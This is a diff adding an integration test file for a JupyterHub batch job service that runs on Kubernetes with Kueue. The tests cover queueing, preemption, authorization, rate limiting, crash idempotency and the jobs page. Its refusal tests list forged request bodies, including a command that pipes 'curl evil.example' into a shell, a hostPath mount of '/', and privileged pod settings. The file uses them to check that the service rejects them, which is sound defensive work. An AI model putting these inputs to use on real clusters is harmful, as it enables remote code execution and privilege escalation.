@@ -1,0 +1,599 @@
+"""The job service through a real JupyterHub on the real control plane with the real Kueue.
+
+The service runs as its own process (registered in the hub as an external service, so a test can
+kill and restart it by pid), reads the test hub's configuration file, and is reached through the
+hub's proxy with users' hub tokens or, for the page, the hub's OAuth login. One test runs the
+service the way jupyterhub_config.d/40-jobs.py registers it (the hub starts it) and drives it
+with `aiinfn jobs clone` from a notebook's environment, as a notebook terminal would.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import re
+import secrets
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import urllib.error
+import urllib.request
+import uuid
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import pytest_asyncio
+import yaml
+from kubernetes_asyncio import client
+
+from aiinfn_hub import devstorage, kueue_config, labels
+from aiinfn_hub.devcluster.processes import free_port
+from aiinfn_hub.services.jobs.operations import job_name
+from tests.helpers import has_default_service_account, wait_until
+from tests.hub import REPO, Hub, start_hub, stop_hub
+
+pytestmark = pytest.mark.integration
+
+USERS = {
+    "alice": {"groups": ["cms-ml"]},
+    "bob": {"groups": ["lhcb-flashsim"]},
+    "quinn": {"groups": ["qml"]},
+    "dave": {"groups": []},
+    "ada": {"admin": True, "groups": []},
+}
+SPAWNER = {
+    "default_policy": {"accelerators": ["cpu"], "environments": "*"},
+    "group_policies": {
+        "cms-ml": {"accelerators": "*", "environments": "*", "max_accelerators": 2},
+        "lhcb-flashsim": {"accelerators": ["cpu", "t4"], "environments": "*", "max_accelerators": 1},
+        "qml": {"accelerators": "*", "environments": "*", "max_accelerators": 2},
+    },
+}
+PREFIX = "/services/jobs/"
+JOB_LABELS = f"{labels.MANAGED_BY}={labels.MANAGED_BY_VALUE},{labels.COMPONENT}=batch-job"
+SANDBOX_LABELS = f"{labels.MANAGED_BY}={labels.MANAGED_BY_VALUE},{labels.COMPONENT}=batch-job-sandbox"
+LONG_RUNNING = "pod-complete.stage.kwok.x-k8s.io/delay"
+
+
+def hub_lines(port: int, token: str) -> list[str]:
+    """The job service as an external service of the test hub, with the roles 40-jobs.py gives."""
+    service = {"name": "jobs", "url": f"http://127.0.0.1:{port}", "api_token": token, "oauth_no_confirm": True,
+               "oauth_client_allowed_scopes": []}
+    return [
+        "c.JupyterHub.public_url = c.JupyterHub.bind_url",
+        f"c.JupyterHub.services.append({service!r})",
+        "c.JupyterHub.load_roles.append({'name': 'user', 'scopes': ['self', 'access:services!service=jobs']})",
+        "c.AiInfnJobs.rate_limit = 200.0",
+        "c.AiInfnJobs.rate_limit_burst = 400",
+        "c.AiInfnJobs.orphan_grace_seconds = 3.0",
+    ]
+
+
+@dataclass
+class Service:
+    """The job service process, started, stopped and killed by pid."""
+
+    tmp: Path
+    hub: Hub
+    port: int
+    token: str
+    kubeconfig: Path
+    process: subprocess.Popen | None = None
+    starts: int = 0
+
+    def start(self, kubeconfig: Path | None = None, *args: str) -> None:
+        env = {k: v for k, v in os.environ.items() if not k.startswith("JUPYTERHUB_")}
+        env.update({
+            "JUPYTERHUB_API_TOKEN": self.token, "JUPYTERHUB_API_URL": f"{self.hub.url}/hub/api",
+            "JUPYTERHUB_CLIENT_ID": "service-jobs", "JUPYTERHUB_SERVICE_NAME": "jobs",
+            "JUPYTERHUB_SERVICE_URL": f"http://127.0.0.1:{self.port}", "JUPYTERHUB_SERVICE_PREFIX": PREFIX,
+            "JUPYTERHUB_OAUTH_CALLBACK_URL": f"{PREFIX}oauth_callback", "JUPYTERHUB_BASE_URL": "/",
+            "JUPYTERHUB_OAUTH_ACCESS_SCOPES": json.dumps(["access:services", "access:services!service=jobs"]),
+            "KUBECONFIG": str(kubeconfig or self.kubeconfig),
+        })
+        self.starts += 1
+        with open(self.tmp / f"jobs-{self.starts}.log", "wb") as log:
+            self.process = subprocess.Popen(
+                [sys.executable, "-m", "aiinfn_hub.services.jobs", "--hub-config",
+                 str(self.tmp / "jupyterhub_config.py"), *args],
+                cwd=self.tmp, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
+        for _ in range(300):
+            if self.process.poll() is not None:
+                raise RuntimeError(f"the job service exited: {self.log()[-3000:]}")
+            try:
+                urllib.request.urlopen(f"http://127.0.0.1:{self.port}{PREFIX}api/openapi.json", timeout=2).read()
+                return
+            except OSError:
+                threading.Event().wait(0.1)
+        raise RuntimeError(f"the job service did not start: {self.log()[-3000:]}")
+
+    def stop(self, how: int = signal.SIGTERM) -> int:
+        if self.process is None or self.process.poll() is not None:
+            return self.process.returncode if self.process else 0
+        os.kill(self.process.pid, how)
+        try:
+            return self.process.wait(timeout=20)
+        except subprocess.TimeoutExpired:
+            os.kill(self.process.pid, signal.SIGKILL)
+            return self.process.wait()
+
+    def log(self) -> str:
+        return (self.tmp / f"jobs-{self.starts}.log").read_text(errors="replace")
+
+
+@dataclass
+class Env:
+    hub: Hub
+    service: Service
+    namespace: str
+    tokens: dict[str, str] = field(default_factory=dict)
+
+    def call(self, user: str | None, method: str, path: str, body=None, token: str | None = None,
+             raw: bytes | None = None) -> tuple[int, dict, Any]:
+        """(status, JSON body, headers) of one API call through the hub's proxy."""
+        data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
+        headers = {}
+        if token or user:
+            headers["Authorization"] = f"token {token or self.tokens[user]}"
+        request = urllib.request.Request(f"{self.hub.url}{PREFIX}{path}", data=data, method=method, headers=headers)
+        try:
+            with urllib.request.urlopen(request, timeout=30) as response:
+                return response.status, json.loads(response.read() or b"{}"), response.headers
+        except urllib.error.HTTPError as error:
+            text = error.read()
+            try:
+                return error.code, json.loads(text), error.headers
+            except ValueError:
+                return error.code, {"raw": text.decode(errors="replace")}, error.headers
+
+    async def api(self, user, method, path, body=None, **kwargs):
+        return await asyncio.to_thread(self.call, user, method, path, body, **kwargs)
+
+
+async def make_namespace(core, name: str) -> None:
+    await core.create_namespace(client.V1Namespace(metadata=client.V1ObjectMeta(name=name, labels={
+        labels.POD_SECURITY_ENFORCE: "restricted", labels.POD_SECURITY_ENFORCE_VERSION: "latest"})))
+    await wait_until(lambda: has_default_service_account(core, name), "default service account")
+
+
+async def prepare(api_client, name: str, root: Path, kueue_documents) -> list[dict]:
+    """A restricted namespace with the storage claims and the projects' LocalQueues."""
+    await make_namespace(client.CoreV1Api(api_client), name)
+    storage = await devstorage.setup(api_client, name, root)
+    await wait_until(lambda: devstorage.claims_bound(api_client, name, storage), "storage claims bound")
+    queues = kueue_config.local_queues(kueue_documents, name)
+    await kueue_config.apply(api_client, queues)
+    await wait_until(lambda: kueue_config.queues_active(api_client, queues), "LocalQueues active")
+    return storage
+
+
+async def user_token(hub: Hub, user: str) -> str:
+    status, body = await asyncio.to_thread(hub.request, "POST", f"/users/{user}/tokens", {"note": "jobs tests"})
+    assert status == 201, body
+    return body["token"]
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="session")
+async def env(devcluster, api_client, kueue, tmp_path_factory):
+    kubeconfig, _ = devcluster
+    tmp = tmp_path_factory.mktemp("jobs")
+    name = f"t-jobs-{uuid.uuid4().hex[:8]}"
+    storage = await prepare(api_client, name, tmp / "storage", kueue)
+    port, token = free_port(), secrets.token_hex(32)
+    hub, responder = await asyncio.to_thread(start_hub, tmp, kubeconfig, name, USERS, SPAWNER, hub_lines(port, token))
+    service = Service(tmp, hub, port, token, kubeconfig)
+    try:
+        await asyncio.to_thread(service.start)
+        environment = Env(hub, service, name)
+        for user in USERS:
+            environment.tokens[user] = await user_token(hub, user)
+        yield environment
+    finally:
+        service.stop()
+        await asyncio.to_thread(stop_hub, hub, responder)
+        await client.CoreV1Api(api_client).delete_namespace(name)
+        await devstorage.delete_volumes(api_client, storage)
+
+
+def job_body(**fields) -> dict:
+    return {"name": "train", "command": ["python", "train.py"], **fields}
+
+
+async def state_of(env: Env, user: str, job_id: str, *states: str, placed: bool = False):
+    """The job's status once it is in one of these states (and, if `placed`, has a queue position)."""
+    status, body, _ = await env.api(user, "GET", f"api/jobs/{job_id}")
+    assert status == 200, body
+    return body if body["state"] in states and (body["position"] or not placed) else None
+
+
+async def hold(api_client, namespace: str, queue: str, held: bool) -> None:
+    """Stop (or resume) admission from a LocalQueue, to shape a job before Kueue admits it; returns
+    once Kueue says the queue is inactive (or active again)."""
+    custom = client.CustomObjectsApi(api_client)
+    await custom.patch_namespaced_custom_object(
+        "kueue.x-k8s.io", "v1beta2", namespace, "localqueues", queue,
+        {"spec": {"stopPolicy": "Hold" if held else "None"}}, _content_type="application/merge-patch+json")
+
+    async def settled():
+        local_queue = await custom.get_namespaced_custom_object("kueue.x-k8s.io", "v1beta2", namespace,
+                                                                "localqueues", queue)
+        active = [c for c in local_queue.get("status", {}).get("conditions", []) if c["type"] == "Active"]
+        return active and (active[0]["status"] == "True") != held
+
+    await wait_until(settled, f"LocalQueue {queue} to be {'held' if held else 'active'}")
+
+
+async def make_long_running(batch, namespace: str, job_id: str, seconds: int) -> None:
+    """kwok finishes job pods after a second unless told otherwise: make this job's pods run long."""
+    await batch.patch_namespaced_job(job_id, namespace, {"spec": {"template": {"metadata": {"annotations": {
+        LONG_RUNNING: f"{seconds}s"}}}}})
+
+
+async def our_objects(env: Env, core, batch) -> tuple[list[str], list[str]]:
+    jobs = await batch.list_namespaced_job(env.namespace, label_selector=JOB_LABELS)
+    sandboxes = await core.list_namespaced_config_map(env.namespace, label_selector=SANDBOX_LABELS)
+    return sorted(j.metadata.name for j in jobs.items), sorted(c.metadata.name for c in sandboxes.items)
+
+
+# -- submitting and running ----------------------------------------------------------------------
+
+async def test_a_batch_job_is_created_suspended_in_its_queue_and_kueue_runs_it(env, api_client, batch, core):
+    await hold(api_client, env.namespace, "project-cms-2dml", True)
+    try:
+        status, job, headers = await env.api("alice", "POST", "api/jobs", job_body(
+            files={"train.py": "print('hello')\n"}, env={"EPOCHS": "2"}, idempotency_key="first"))
+        assert status == 201, job
+        assert headers["Location"] == f"{PREFIX}api/jobs/{job['id']}"
+        assert (job["owner"], job["project"], job["queue"], job["state"]) == (
+            "alice", "cms-ml", "project-cms-2dml", "queued")
+        created = await batch.read_namespaced_job(job["id"], env.namespace)
+        assert created.spec.suspend is True
+        assert created.metadata.labels["kueue.x-k8s.io/queue-name"] == "project-cms-2dml"
+        assert created.metadata.labels["kueue.x-k8s.io/priority-class"] == "aiinfn-normal"
+        assert created.metadata.labels[labels.OWNER] == "alice"
+        assert created.metadata.annotations[labels.OWNER_NAME] == "alice"
+        pod = created.spec.template.spec
+        assert (pod.automount_service_account_token, pod.priority_class_name) == (False, "aiinfn-batch")
+        assert pod.security_context.run_as_non_root and pod.security_context.run_as_user >= 100000
+        assert pod.containers[0].resources.requests == {"cpu": "2", "memory": "8Gi"}
+        sandbox = await core.read_namespaced_config_map(job["id"], env.namespace)
+        assert sandbox.data == {"train.py": "print('hello')\n"}
+        assert sandbox.metadata.owner_references[0].uid == created.metadata.uid
+        waiting = await wait_until(lambda: state_of(env, "alice", job["id"], "queued", placed=True), "Kueue's workload")
+        assert waiting["position"] == 1
+    finally:
+        await hold(api_client, env.namespace, "project-cms-2dml", False)
+    done = await wait_until(lambda: state_of(env, "alice", job["id"], "succeeded"), "the job to succeed")
+    assert done["admission"] == {"cluster_queue": "project-cms-2dml",
+                                 "flavors": {"cpu": "cpu", "memory": "cpu"}}
+    assert done["succeeded"] == 1 and done["pods"][0]["node"].startswith("service-vm-")
+    status, listing, _ = await env.api("alice", "GET", "api/jobs")
+    assert job["id"] in [j["id"] for j in listing["jobs"]]
+    status, logs, _ = await env.api("alice", "GET", f"api/jobs/{job['id']}/logs?tail=10")
+    assert status == 200 and logs["pods"][0]["pod"] == done["pods"][0]["name"]
+
+
+async def test_over_quota_jobs_wait_in_line_and_lower_priority_is_preempted(env, api_client, batch):
+    """qml owns the farm's only A30: a long low-priority job holds it, normal jobs wait in order,
+    a high-priority job preempts it, the waiting ones run when the quota frees."""
+    a30 = {"accelerator": "a30", "environment": "qml"}
+    await hold(api_client, env.namespace, "project-qml", True)
+    try:
+        _, low, _ = await env.api("quinn", "POST", "api/jobs", job_body(name="low", priority="low", **a30))
+        await make_long_running(batch, env.namespace, low["id"], 300)
+    finally:
+        await hold(api_client, env.namespace, "project-qml", False)
+    await wait_until(lambda: state_of(env, "quinn", low["id"], "running"), "the low-priority job to run")
+    waiting = []
+    for name in ("next", "later"):
+        status, job, _ = await env.api("quinn", "POST", "api/jobs", job_body(name=name, **a30))
+        assert status == 201, job
+        waiting.append(job["id"])
+
+    async def in_line():
+        """Both waiting, placed and told why, in one listing (places shift as workloads appear)."""
+        _, listing, _ = await env.api("quinn", "GET", "api/jobs")
+        jobs = [j for j in listing["jobs"] if j["id"] in waiting]
+        return jobs if all(j["state"] == "queued" and j["position"] for j in jobs) and any(
+            j["message"] for j in jobs) else None
+
+    line = sorted(await wait_until(in_line, "the two jobs to wait in line"), key=lambda j: j["position"])
+    assert [j["position"] for j in line] == [1, 2]
+    assert "insufficient quota" in line[0]["message"]
+
+    _, high, _ = await env.api("quinn", "POST", "api/jobs", job_body(name="urgent", priority="high", **a30))
+    await wait_until(lambda: state_of(env, "quinn", high["id"], "succeeded"), "the high-priority job to run")
+    preempted = await wait_until(lambda: state_of(env, "quinn", low["id"], "requeued"), "the low one to be requeued")
+    assert "Preempted" in preempted["message"] and preempted["admission"] is None
+    for job_id in waiting:
+        await wait_until(lambda: state_of(env, "quinn", job_id, "succeeded"), "a waiting job to run")
+    status, cancelled, _ = await env.api("quinn", "DELETE", f"api/jobs/{low['id']}")
+    assert (status, cancelled["state"]) == (200, "cancelled")
+
+
+async def test_an_offloadable_job_runs_on_the_virtual_node(env, core):
+    status, body, _ = await env.api("alice", "POST", "api/jobs", job_body(offloadable=True, volumes=["home"]))
+    assert status == 400 and "cannot mount home" in body["message"]
+    status, job, _ = await env.api("alice", "POST", "api/jobs", job_body(offloadable=True, accelerator="t4"))
+    assert status == 201, job
+    done = await wait_until(lambda: state_of(env, "alice", job["id"], "succeeded"), "the offloaded job")
+    assert done["admission"]["flavors"]["nvidia.com/gpu"] == "interlink-infn-t1"
+    assert {p["node"] for p in done["pods"]} == {"interlink-infn-t1"}
+    assert done["offloadable"] is True
+
+
+# -- refusals ----------------------------------------------------------------------------------
+
+FORGED = [
+    ("alice", job_body(user="bob"), 400, "unknown field 'user'"),
+    ("alice", job_body(namespace="kube-system"), 400, "unknown field 'namespace'"),
+    ("alice", job_body(queue="project-lhcb-2dflashsim"), 400, "unknown field 'queue'"),
+    ("alice", job_body(labels={labels.OWNER: "bob", "kueue.x-k8s.io/queue-name": "x"}), 400, "unknown field 'labels'"),
+    ("alice", job_body(env={"KEY": {"valueFrom": {"secretKeyRef": {"name": "juicefs", "key": "k"}}}}), 400,
+     "env.KEY: Input should be a valid string"),
+    ("alice", job_body(envFrom=[{"secretRef": {"name": "juicefs"}}]), 400, "unknown field 'envFrom'"),
+    ("alice", job_body(volumes=[{"name": "host", "hostPath": {"path": "/"}}]), 400, "volumes.0"),
+    ("alice", job_body(securityContext={"privileged": True}), 400, "unknown field 'securityContext'"),
+    ("alice", job_body(privileged=True), 400, "unknown field 'privileged'"),
+    ("alice", job_body(command="python train.py && curl evil.example | sh"), 400, "command: Input should be"),
+    ("alice", job_body(image="docker.io/library/ubuntu:22.04"), 400, "unknown field 'image'"),
+    ("alice", job_body(env={"JUPYTERHUB_API_TOKEN": "x"}), 400, "reserved by the platform"),
+    ("alice", job_body(project="lhcb-flashsim"), 403, "not a member of a project called 'lhcb-flashsim'"),
+    ("alice", job_body(priority="root"), 400, "unknown priority 'root'"),
+    ("bob", job_body(accelerator="a100"), 403, "not available to your groups"),
+    ("dave", job_body(), 403, "you are in no project"),
+    ("ada", job_body(), 403, "you are in no project"),
+]
+
+
+async def test_forged_requests_are_refused_and_create_nothing(env, core, batch):
+    before = await our_objects(env, core, batch)
+    for user, body, status, message in FORGED:
+        got, answer, _ = await env.api(user, "POST", "api/jobs", body)
+        assert (got, message in answer.get("message", "")) == (status, True), (body, answer)
+    got, answer, _ = await env.api("alice", "POST", "api/clones", job_body(environment="ml-gpu"))
+    assert got == 400 and "unknown field 'environment'" in answer["message"]
+    got, answer, _ = await env.api("alice", "POST", "api/jobs", raw=b"{" + b" " * (600 * 1024) + b"}")
+    assert got == 413, answer
+    got, answer, _ = await env.api("alice", "POST", "api/jobs", raw=b"not json")
+    assert got == 400 and answer["message"].startswith("invalid request")
+    assert await our_objects(env, core, batch) == before
+
+
+async def test_who_may_call_and_see_what(env, core, batch):
+    _, job, _ = await env.api("alice", "POST", "api/jobs", job_body(name="private"))
+    for user in ("bob", "quinn"):
+        for method, path in (("GET", ""), ("DELETE", ""), ("GET", "/logs"), ("POST", "/resubmit")):
+            status, body, _ = await env.api(user, method, f"api/jobs/{job['id']}{path}", {} if method == "POST" else None)
+            assert (status, body["message"]) == (404, f"no job {job['id']!r}"), (user, method, path)
+    status, body, _ = await env.api("bob", "GET", "api/jobs/job-00000000000000000000")
+    assert status == 404 and body["message"] == "no job 'job-00000000000000000000'"
+    status, listing, _ = await env.api("bob", "GET", "api/jobs?all=1")
+    assert job["id"] not in [j["id"] for j in listing["jobs"]]
+    status, listing, _ = await env.api("ada", "GET", "api/jobs?all=1")
+    assert job["id"] in [j["id"] for j in listing["jobs"]]
+    status, body, _ = await env.api("ada", "POST", f"api/jobs/{job['id']}/resubmit", {})
+    assert (status, body["message"]) == (403, "only the owner can resubmit a job")
+    assert (await env.api("ada", "GET", f"api/jobs/{job['id']}"))[0] == 200
+
+    status, body, _ = await env.api(None, "GET", "api/jobs")
+    assert status == 403 and body["message"].startswith("authentication required")
+    status, body, _ = await env.api(None, "GET", "api/jobs", token=env.hub.token)
+    assert (status, body["message"]) == (403, "only users can use this service")
+    _, narrow = await asyncio.to_thread(env.hub.request, "POST", "/users/alice/tokens", {"scopes": ["read:users:name!user"]})
+    status, body, _ = await env.api(None, "GET", "api/jobs", token=narrow["token"])
+    assert (status, body["message"]) == (403, "this token may not use this service")
+    status, doc, _ = await env.api(None, "GET", "api/openapi.json")
+    assert status == 200 and "/api/clones" in doc["paths"]
+    assert doc["components"]["schemas"]["JobRequest"]["additionalProperties"] is False
+    assert (await env.api("alice", "GET", "api/nothing-here"))[0] == 404
+    status, cancelled, _ = await env.api("ada", "DELETE", f"api/jobs/{job['id']}")
+    assert status == 200 and job["id"] not in (await our_objects(env, core, batch))[0]
+
+
+async def test_the_rate_limit_answers_429_with_retry_after(env):
+    env.service.stop()
+    await asyncio.to_thread(env.service.start, None, "--AiInfnJobs.rate_limit=0.01", "--AiInfnJobs.rate_limit_burst=3")
+    try:
+        answers = [await env.api("dave", "GET", "api/jobs") for _ in range(4)]
+        assert [a[0] for a in answers] == [200, 200, 200, 429]
+        assert answers[3][1]["message"].startswith("too many requests") and int(answers[3][2]["Retry-After"]) >= 1
+        assert (await env.api("bob", "GET", "api/jobs"))[0] == 200
+    finally:
+        env.service.stop()
+        await asyncio.to_thread(env.service.start)
+
+
+# -- idempotency and restarts -------------------------------------------------------------------
+
+def blackhole_kubeconfig(kubeconfig: Path, tmp: Path) -> tuple[Path, socket.socket]:
+    """A kubeconfig whose API server accepts connections and never answers."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(16)
+    document = yaml.safe_load(kubeconfig.read_text())
+    for entry in document["clusters"]:
+        entry["cluster"]["server"] = f"https://127.0.0.1:{listener.getsockname()[1]}"
+    path = tmp / "blackhole.kubeconfig"
+    path.write_text(yaml.safe_dump(document))
+    return path, listener
+
+
+async def test_idempotency_keys_and_restarts_lose_and_duplicate_nothing(env, core, batch):
+    body = job_body(name="once", idempotency_key="k-once")
+    results = await asyncio.gather(*(env.api("alice", "POST", "api/jobs", body) for _ in range(8)))
+    assert sorted(r[0] for r in results) == [200] * 7 + [201]
+    assert len({r[1]["id"] for r in results}) == 1
+    status, answer, _ = await env.api("alice", "POST", "api/jobs", job_body(name="other", idempotency_key="k-once"))
+    assert status == 409 and "already used for a different job" in answer["message"]
+    status, bobs, _ = await env.api("bob", "POST", "api/jobs", body)
+    assert status == 201 and bobs["id"] != results[0][1]["id"]
+
+    # Killed before anything was created: the cluster never answers, the service dies mid-request.
+    service = env.service
+    service.stop()
+    blackhole, listener = blackhole_kubeconfig(service.kubeconfig, service.tmp)
+    try:
+        await asyncio.to_thread(service.start, blackhole)
+        pending = asyncio.ensure_future(env.api("alice", "POST", "api/jobs", job_body(
+            name="crash", idempotency_key="k-crash", files={"data.txt": "1"})))
+        await asyncio.sleep(1.0)
+        assert not pending.done()
+        service.stop(signal.SIGKILL)
+        assert (await pending)[0] >= 500
+    finally:
+        listener.close()
+    await asyncio.to_thread(service.start)
+    jobs, _ = await our_objects(env, core, batch)
+    status, crash, _ = await env.api("alice", "POST", "api/jobs", job_body(
+        name="crash", idempotency_key="k-crash", files={"data.txt": "1"}))
+    assert status == 201, crash
+
+    # Killed after the Job was created (the answer lost): the retry gets that Job back.
+    service.stop(signal.SIGKILL)
+    await asyncio.to_thread(service.start)
+    status, again, _ = await env.api("alice", "POST", "api/jobs", job_body(
+        name="crash", idempotency_key="k-crash", files={"data.txt": "1"}))
+    assert (status, again["id"]) == (200, crash["id"])
+    after, sandboxes = await our_objects(env, core, batch)
+    assert sorted(set(after) - set(jobs)) == [crash["id"]] and crash["id"] in sandboxes
+
+
+async def test_sandboxes_of_interrupted_submissions_are_reused_or_swept(env, core, batch):
+    def orphan(key: str) -> dict:
+        """What a submission killed between writing its sandbox and creating its Job leaves."""
+        return {"metadata": {
+            "name": job_name("alice", key),
+            "labels": {labels.MANAGED_BY: labels.MANAGED_BY_VALUE, labels.COMPONENT: "batch-job-sandbox",
+                       labels.OWNER: "alice"},
+            "annotations": {labels.OWNER_NAME: "alice", labels.IDEMPOTENCY_KEY: key, labels.REQUEST_DIGEST: "0"},
+        }, "data": {"data.txt": "stale"}}
+
+    await core.create_namespaced_config_map(env.namespace, orphan("k-retry"))
+    await core.create_namespaced_config_map(env.namespace, orphan("k-abandoned"))
+    status, job, _ = await env.api("alice", "POST", "api/jobs", job_body(
+        name="retry", idempotency_key="k-retry", files={"data.txt": "fresh"}))
+    assert status == 201, job
+    sandbox = await core.read_namespaced_config_map(job["id"], env.namespace)
+    assert sandbox.data == {"data.txt": "fresh"} and sandbox.metadata.owner_references[0].name == job["id"]
+
+    async def swept():
+        return job_name("alice", "k-abandoned") not in (await our_objects(env, core, batch))[1]
+
+    await wait_until(swept, "the abandoned sandbox to be swept")
+
+
+async def test_resubmission_runs_the_same_request_again(env):
+    _, first, _ = await env.api("alice", "POST", "api/jobs", job_body(
+        name="again", command=None, script="#!/bin/sh\necho again\n", files={"in.txt": "x"}))
+    await wait_until(lambda: state_of(env, "alice", first["id"], "succeeded"), "the first run")
+    status, second, _ = await env.api("alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"})
+    assert status == 201 and second["id"] != first["id"] and second["name"] == "again"
+    assert (await env.api("alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"}))[1]["id"] \
+        == second["id"]
+    await wait_until(lambda: state_of(env, "alice", second["id"], "succeeded"), "the second run")
+
+
+# -- the page -----------------------------------------------------------------------------------
+
+async def test_the_jobs_page_lists_jobs_and_cancels_them_with_xsrf(env, api_client, batch):
+    await hold(api_client, env.namespace, "project-lhcb-2dflashsim", True)
+    try:
+        _, job, _ = await env.api("bob", "POST", "api/jobs", job_body(name="pagejob"))
+        status, page = await asyncio.to_thread(env.hub.page, PREFIX, "bob")
+        assert status == 200, page
+        assert f'data-job="{job["id"]}"' in page and "pagejob" in page and "queued" in page
+        xsrf = re.search(r'name="_xsrf" value="([^"]+)"', page).group(1)
+        status, other = await asyncio.to_thread(env.hub.page, PREFIX, "alice")
+        assert status == 200 and job["id"] not in other
+
+        browser = env.hub.browsers["bob"]
+        cancel = f"{env.hub.url}{PREFIX}jobs/{job['id']}/cancel"
+
+        def post(data: bytes) -> int:
+            try:
+                with browser.open(urllib.request.Request(cancel, data=data, method="POST"), timeout=30) as response:
+                    return response.status
+            except urllib.error.HTTPError as error:
+                return error.code
+
+        assert await asyncio.to_thread(post, b"") == 403
+        assert await asyncio.to_thread(post, b"_xsrf=forged") == 403
+        assert (await batch.read_namespaced_job(job["id"], env.namespace)).metadata.deletion_timestamp is None
+        assert await asyncio.to_thread(post, f"_xsrf={xsrf}".encode()) == 200
+        status, _, _ = await env.api("bob", "GET", f"api/jobs/{job['id']}")
+        assert status == 404
+    finally:
+        await hold(api_client, env.namespace, "project-lhcb-2dflashsim", False)
+
+
+# -- the hub runs the service; a notebook terminal clones its notebook ----------------------------
+
+async def test_clone_from_a_notebook_terminal_through_the_configured_service(devcluster, api_client, kueue, core,
+                                                                            batch, tmp_path):
+    """jupyterhub_config.d/40-jobs.py as written (on a free port): the hub starts the service;
+    `aiinfn jobs clone -- python train.py` with the notebook's environment makes a Kueue job from
+    the notebook pod that is admitted, runs, completes and shows on the page."""
+    kubeconfig, _ = devcluster
+    name = f"t-jobsm-{uuid.uuid4().hex[:8]}"
+    storage = await prepare(api_client, name, tmp_path / "storage", kueue)
+    lines = [
+        "c.JupyterHub.public_url = c.JupyterHub.bind_url",
+        f"load_subconfig({str(REPO / 'jupyterhub_config.d' / '40-jobs.py')!r})",
+        f"c.JupyterHub.services[-1]['url'] = 'http://127.0.0.1:{free_port()}'",
+    ]
+    hub, responder = await asyncio.to_thread(start_hub, tmp_path, kubeconfig, name, {"alice": USERS["alice"]},
+                                             SPAWNER, lines)
+    try:
+        status, body = await asyncio.to_thread(hub.request, "POST", "/users/alice/server", {})
+        assert status in (201, 202), body
+        pods = await wait_until(lambda: notebook_pods(core, name), "alice's notebook pod")
+        notebook = pods[0]
+        terminal = {e.name: e.value for e in notebook.spec.containers[0].env if e.value is not None}
+        assert terminal["JUPYTERHUB_API_TOKEN"]
+        result = await asyncio.to_thread(aiinfn, terminal, "jobs", "clone", "--", "python", "train.py")
+        assert result.returncode == 0, result.stderr
+        job_id = result.stdout.split()[0]
+        job = await batch.read_namespaced_job(job_id, name)
+        spec = job.spec.template.spec
+        container = spec.containers[0]
+        assert container.image == notebook.spec.containers[0].image
+        assert container.command == ["python", "train.py"]
+        assert not [e for e in container.env or () if "TOKEN" in e.name or e.name.startswith("JUPYTERHUB_")]
+        assert terminal["JUPYTERHUB_API_TOKEN"] not in json.dumps(api_client.sanitize_for_serialization(job))
+        assert {v.name for v in spec.volumes} == {v.name for v in notebook.spec.volumes} - {"access-token"}
+        assert spec.security_context.run_as_user == notebook.spec.security_context.run_as_user
+        assert job.metadata.labels["kueue.x-k8s.io/queue-name"] == "project-cms-2dml"
+
+        async def succeeded():
+            done = await asyncio.to_thread(aiinfn, terminal, "--json", "jobs", "status", job_id)
+            answer = json.loads(done.stdout)
+            return answer if answer["state"] == "succeeded" else None
+
+        done = await wait_until(succeeded, "the clone to run and complete")
+        assert done["kind"] == "bunshin" and done["admission"]["cluster_queue"] == "project-cms-2dml"
+        listed = await asyncio.to_thread(aiinfn, terminal, "jobs", "list")
+        assert job_id in listed.stdout and "succeeded" in listed.stdout
+        status, page = await asyncio.to_thread(hub.page, PREFIX, "alice")
+        assert status == 200 and f'data-job="{job_id}"' in page and 'data-state="succeeded"' in page
+    finally:
+        await asyncio.to_thread(stop_hub, hub, responder)
+        await core.delete_namespace(name)
+        await devstorage.delete_volumes(api_client, storage)
+
+
+async def notebook_pods(core, namespace: str):
+    pods = await core.list_namespaced_pod(namespace, label_selector="component=singleuser-server")
+    return [p for p in pods.items if p.status.phase == "Running"] or None
+
+
+def aiinfn(terminal: dict[str, str], *args: str) -> subprocess.CompletedProcess:
+    """The `aiinfn` command as a notebook terminal runs it: the notebook's environment, nothing else."""
+    env = {**terminal, "PATH": os.environ["PATH"]}
+    return subprocess.run([sys.executable, "-m", "aiinfn_hub.cli", *args], env=env, capture_output=True, text=True,
+                          timeout=60)
